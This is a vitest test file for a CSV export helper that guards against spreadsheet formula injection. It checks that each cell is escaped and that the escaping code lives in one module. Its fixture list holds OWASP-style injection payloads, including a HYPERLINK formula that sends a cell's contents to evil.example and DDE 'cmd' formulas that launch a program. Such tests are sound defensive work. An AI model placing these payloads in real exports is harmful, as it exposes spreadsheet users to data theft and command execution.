import { readdirSync, readFileSync } from "node:fs"
import path from "node:path"
import { parse } from "csv-parse/sync"
import { describe, expect, it } from "vitest"
import { csvCell, csvRow } from "@/lib/copies/csv"

/** What OWASP and others list as ways into a spreadsheet, and neighbours of them. */
const FORMULAS = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?"&A1,"here")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\r\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\u3000=1+1",
  "\u200b=1+1",
  "\ufeff=1+1",
  "\uff1d1+1",
  "\uff0b1+1",
  "\uff0d1+1",
  "\uff20SUM(1)",
  "\0=1+1",
  "\tplain",
  "-",
]
const PLAIN = [
  "",
  "Асанов",
  "+996555000001",
  "-12.50",
  "1,5",
  "a=b",
  "o'clock",
  'quote " inside',
  "line\nbreak",
  "2026-11-23",
]

describe("a cell of CSV", () => {
  it("is never a formula, and numbers, phones and text are as they were", () => {
    for (const text of FORMULAS) expect(csvCell(text), JSON.stringify(text)).toMatch(/^"'/)
    for (const text of PLAIN) expect(csvCell(text)).toBe(`"${text.replaceAll('"', '""')}"`)
  })

  it("read back is what went in, but for the apostrophe, and cannot open a cell of its own", () => {
    const cells = [...FORMULAS, ...PLAIN, '","=1+1', '"\r\n"=1+1', ";=1+1", "a;b,c\td"]
    const [row, ...more] = parse(csvRow(cells), { relax_column_count: true })
    expect(more).toEqual([])
    expect(row).toEqual(cells.map((text) => (FORMULAS.includes(text) ? `'${text}` : text)))
  })

  it("is made in one place of the product alone", () => {
    const root = path.join(import.meta.dirname, "../..")
    const files = ["app", "lib", "bin"].flatMap((folder) =>
      readdirSync(path.join(root, folder), { recursive: true, encoding: "utf8" })
        .filter((file) => /\.tsx?$/.test(file) && !/\.(test|fixture)\.tsx?$/.test(file))
        .map((file) => `${folder}/${file}`),
    )
    const doubling = files.filter((file) => readFileSync(path.join(root, file), "utf8").includes(`'""'`))
    // The organisation's own files keep their values as they are, and the other doubles them in names for SQL.
    const others = ["lib/sources/files/folder.ts", "lib/sources/postgres/sql.ts"]
    expect(doubling.sort()).toEqual(["lib/copies/csv.ts", ...others])
  })
})
